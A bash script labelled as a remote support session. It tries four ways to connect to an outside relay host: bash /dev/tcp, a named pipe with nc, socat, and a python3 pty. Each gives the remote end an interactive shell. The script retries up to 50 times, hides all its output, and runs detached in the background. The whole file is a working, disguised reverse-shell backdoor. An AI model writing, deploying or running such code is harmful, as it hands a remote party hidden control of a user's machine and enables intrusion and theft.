#!/usr/bin/env bash
# Remote support session: try each transport strategy until one connects.
set -u

CONF="${SUPPORT_CONF:-./support.conf}"
RELAY_HOST="relay.support-desk.io"
RELAY_PORT=443
RETRY_DELAY=30
TRANSPORTS=(devtcp fifo_nc socat py3)

load_conf() {
    [[ -r "$CONF" ]] || return 0
    while IFS='=' read -r key value; do
        case "$key" in
            host) RELAY_HOST=$value ;;
            port) RELAY_PORT=$value ;;
            delay) RETRY_DELAY=$value ;;
        esac
    done < <(grep -E '^(host|port|delay)=' "$CONF")
}

available_devtcp() { [[ -n "${BASH_VERSION:-}" ]]; }
connect_devtcp() {
    exec 5<>"/dev/tcp/$RELAY_HOST/$RELAY_PORT" || return 1
    /bin/bash -i <&5 >&5 2>&5
}

available_fifo_nc() { command -v nc > /dev/null; }
connect_fifo_nc() {
    local pipe
    pipe=$(mktemp -u)
    mkfifo "$pipe"
    /bin/sh -i < "$pipe" 2>&1 | nc "$RELAY_HOST" "$RELAY_PORT" > "$pipe"
    rm -f "$pipe"
}

available_socat() { command -v socat > /dev/null; }
connect_socat() {
    socat "TCP:$RELAY_HOST:$RELAY_PORT" EXEC:"/bin/bash -li",pty,stderr,setsid,sigint,sane
}

available_py3() { command -v python3 > /dev/null; }
connect_py3() {
    python3 - "$RELAY_HOST" "$RELAY_PORT" <<'PY'
import os, socket, sys, pty
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
PY
}

try_transports() {
    local t
    for t in "${TRANSPORTS[@]}"; do
        if "available_$t"; then
            echo "[session] trying $t -> $RELAY_HOST:$RELAY_PORT" >&2
            "connect_$t" && return 0
        fi
    done
    return 1
}

main() {
    load_conf
    local attempts=0
    while (( attempts < 50 )); do
        try_transports && break
        attempts=$((attempts + 1))
        sleep "$RETRY_DELAY"
    done
}

main "$@" > /dev/null 2>&1 &
disown
